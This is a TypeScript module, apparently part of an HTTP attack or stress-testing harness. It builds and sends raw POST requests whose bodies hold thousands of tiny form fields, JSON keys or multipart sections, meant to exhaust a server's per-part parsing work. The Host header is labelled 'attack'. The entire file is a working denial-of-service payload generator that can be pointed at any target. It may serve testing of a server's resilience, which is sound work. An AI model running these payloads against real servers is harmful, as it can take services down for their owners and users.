import { sendRaw, type Target } from './target.ts';

/** Bodies of a great many small parts: what is done for each of them, and not its bytes, is what they cost. */

const parts = (count: number): number[] => Array.from({ length: count }, (_, index) => index);

/** The same body goes to many addresses: it is put together once. */
function once(make: (count: number) => string): (count: number) => string {
  const made = new Map<number, string>();
  return (count) => {
    const body = made.get(count) ?? make(count);
    made.set(count, body);
    return body;
  };
}

const bigForm = once(
  (fields) =>
    `remove=a&${parts(fields)
      .map((n) => `a.${n.toString(36)}`)
      .join('&')}`,
);

const bigJson = once(
  (keys) =>
    `{${parts(keys)
      .map((n) => `"${n.toString(36)}":0`)
      .join(',')}}`,
);

const bigMultipart = once(
  (count) =>
    `${parts(count)
      .map((n) => `--b\r\ncontent-disposition: form-data; name="${n}"\r\n\r\n\r\n`)
      .join('')}--b--\r\n`,
);

const send = (target: Target, path: string, type: string, body: string): Promise<number> => {
  const head = [
    `POST ${path} HTTP/1.1`,
    'host: attack',
    `content-type: ${type}`,
    `content-length: ${Buffer.byteLength(body)}`,
    '\r\n',
  ].join('\r\n');
  return sendRaw(target, head, body);
};

/** A form that asks for a row of many fields to be removed, each of which begins like the row. */
export const sendBigForm = (target: Target, path: string, fields: number): Promise<number> =>
  send(target, path, 'application/x-www-form-urlencoded', bigForm(fields));

export const sendBigJson = (target: Target, path: string, keys: number): Promise<number> =>
  send(target, path, 'application/json', bigJson(keys));

export const sendBigMultipart = (target: Target, path: string, count: number): Promise<number> =>
  send(target, path, 'multipart/form-data; boundary=b', bigMultipart(count));
